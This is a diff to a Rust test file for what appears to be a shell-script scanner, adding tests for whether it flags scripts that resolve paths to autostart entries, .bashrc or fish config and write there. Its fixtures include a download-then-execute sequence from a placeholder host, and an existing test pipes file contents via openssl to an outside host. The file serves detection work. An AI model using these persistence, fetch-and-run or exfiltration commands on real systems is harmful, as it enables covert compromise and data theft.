@@ -382,6 +382,32 @@ fn what_a_script_names_and_calls_later_is_followed() {
 }
 
 #[test]
+fn of_what_is_printed_otherwise_the_last_stands_for_all() {
+    for text in [
+        "d=$([ -n \"$XDG_CONFIG_HOME\" ] && echo \"$XDG_CONFIG_HOME\" || echo \"$HOME/.config\")/autostart\necho x > \"$d/a.desktop\"\n",
+        "d=$(if [ -d \"$X\" ]; then echo \"$X\"; else echo ~; fi)\necho x >> $d/.bashrc\n",
+        "#!/usr/bin/env fish\nset -l d (set -q X; and echo $X; or echo $HOME/.config)/fish/conf.d\necho x > $d/a.fish\n",
+    ] {
+        is_danger(text, Context::Script);
+    }
+    let own = "d=$([ -n \"$X\" ] && echo \"$X\" || echo \"$HOME/.cache\")/tool\nmkdir -p \"$d\"\necho x > \"$d/seen\"\n";
+    is_no_danger(own, Context::Script);
+}
+
+#[test]
+fn what_a_script_brings_in_is_known_where_it_is_used() {
+    let judged = |brought: &str, text: &str| {
+        let mut findings = Findings::default();
+        let source = Source::new("a.sh", text);
+        let _followed = judge_script(&source, &[brought.to_owned()], Context::Script, &mut findings);
+        findings.finish().into_iter().any(|finding| finding.severity == Severity::Danger)
+    };
+    assert!(judged("rc=$HOME/.bashrc\n", ". ./common.sh\necho x >> $rc\n"));
+    assert!(judged("page=/tmp/p\ncurl -so $page https://x.example.com/a\n", ". ./common.sh\nsh /tmp/p\n"));
+    assert!(!judged("log=$HOME/.cache/tool/log\n", ". ./common.sh\necho x >> $log\n"));
+}
+
+#[test]
 fn a_file_of_hosts_says_where_to_and_does_not_go_there() {
     let asks = "while read -r host port; do\n  openssl s_client -connect \"$host:$port\" </dev/null | openssl x509 -noout -enddate\ndone <hosts.txt\n";
     let sends = "while read -r line; do\n  printf '%s' \"$line\" | openssl s_client -quiet -connect keys.example.net:443\ndone <notes.txt\n";
